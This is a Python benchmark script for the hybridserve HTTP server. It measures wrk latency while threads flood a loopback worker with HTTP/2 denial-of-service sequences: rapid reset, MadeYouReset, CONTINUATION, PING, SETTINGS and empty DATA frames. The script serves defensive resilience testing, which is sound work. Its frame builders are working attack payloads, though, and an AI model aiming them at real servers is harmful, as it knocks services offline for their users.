"""Other clients' latency while HTTP/2 attackers hit the same worker (loopback, bounded).

wrk measures HTTP/1.1 hello on one hybridserve worker for ``--seconds``, first alone, then
while attacker threads replay HTTP/2 floods on fresh connections (rapid reset, MadeYouReset,
CONTINUATION, PING, SETTINGS, empty DATA; 3,000 frames each), each until the server's GOAWAY
and close, ``--rate`` connections a second per attacker.

    bench/.venv/bin/python bench/h2_attacks.py --seconds 5 --attackers 2 --rate 20
"""

import argparse
import re
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

BENCH = Path(__file__).resolve().parent
HYBRIDSERVE = BENCH.parent / ".venv" / "bin" / "hybridserve"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize()
GET = [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"t"), (b":path", b"/")]
POST = [(b":method", b"POST"), *GET[1:], (b"content-length", b"1")]


def floods(count: int = 3000) -> dict[str, bytes]:
    """Each attack's bytes after the preface, built once."""
    enc = Encoder()
    rapid = b"".join(
        HeadersFrame(2 * i + 1, enc.encode(GET), flags=["END_HEADERS"]).serialize()
        + RstStreamFrame(2 * i + 1, error_code=8).serialize()
        for i in range(count)
    )
    enc = Encoder()
    made = b"".join(
        HeadersFrame(2 * i + 1, enc.encode(POST), flags=["END_HEADERS"]).serialize()
        + DataFrame(2 * i + 1, b"xy").serialize()
        for i in range(count)
    )
    block = Encoder().encode(GET)
    cont = HeadersFrame(1, block).serialize()
    cont += ContinuationFrame(1, b"").serialize() * count
    enc = Encoder()
    empty = HeadersFrame(1, enc.encode(POST[:-1]), flags=["END_HEADERS"]).serialize()
    empty += DataFrame(1, b"").serialize() * count
    return {
        "rapid reset": rapid,
        "MadeYouReset": made,
        "CONTINUATION": cont,
        "PING": PingFrame(0, opaque_data=b"12345678").serialize() * count,
        "SETTINGS": SettingsFrame(0).serialize() * count,
        "empty DATA": empty,
    }


def attack(
    port: int, blobs: dict[str, bytes], until: float, tally: dict[str, int], rate: float
) -> None:
    """Replay every flood in turn on a new connection, ``rate`` a second, until ``until``."""
    next_at = time.monotonic()
    while time.monotonic() < until:
        for name, blob in blobs.items():
            next_at += 1 / rate
            time.sleep(max(0.0, next_at - time.monotonic()))
            try:
                with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
                    sock.sendall(PREFACE + blob)
                    got = b""
                    while chunk := sock.recv(65536):
                        got += chunk
                goaway = b"\x07\x00\x00\x00\x00\x00" in got
                tally[name + (" GOAWAY" if goaway else " closed")] += 1
            except OSError:
                tally[name + " reset"] += 1


def wrk(port: int, seconds: int) -> str:
    argv = ["wrk", "-t1", "-c32", f"-d{seconds}s", "--latency", f"http://127.0.0.1:{port}/"]
    return subprocess.run(argv, capture_output=True, text=True, timeout=seconds + 30).stdout


def summary(out: str) -> str:
    patterns = (r"Requests/sec:\s+([\d.]+)", r"50%\s+(\S+)", r"99%\s+(\S+)")
    found = [re.search(p, out) for p in patterns]
    rps, p50, p99 = (m.group(1) if m else "?" for m in found)
    return f"{rps} req/s, p50 {p50}, p99 {p99}"


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--seconds", type=int, default=5)
    parser.add_argument("--attackers", type=int, default=2)
    parser.add_argument("--rate", type=float, default=20, help="attack connections/s each")
    args = parser.parse_args()
    argv = [str(HYBRIDSERVE), "apps:asgi_app", "--app-dir", str(BENCH), "-w", "1"]
    server = subprocess.Popen([*argv, "--bind", "127.0.0.1:0"], stderr=subprocess.PIPE, text=True)
    try:
        assert server.stderr is not None
        port = 0
        while not port:
            line = server.stderr.readline()
            if not line:
                sys.exit("server exited")
            if match := re.search(r"Listening at http://127.0.0.1:(\d+)", line):
                port = int(match.group(1))
        time.sleep(1)  # the worker boots after the master listens
        print("alone:          ", summary(wrk(port, args.seconds)))  # noqa: T201
        blobs = floods()
        tally: dict[str, int] = {k + s: 0 for k in blobs for s in (" GOAWAY", " closed", " reset")}
        until = time.monotonic() + args.seconds + 2
        threads = [
            threading.Thread(
                target=attack, args=(port, blobs, until, tally, args.rate), daemon=True
            )
            for _ in range(args.attackers)
        ]
        for thread in threads:
            thread.start()
        print("under attack:   ", summary(wrk(port, args.seconds)))  # noqa: T201
        for thread in threads:
            thread.join(30)
        print({k: v for k, v in tally.items() if v})  # noqa: T201
    finally:
        server.terminate()
        server.wait(30)


if __name__ == "__main__":
    main()
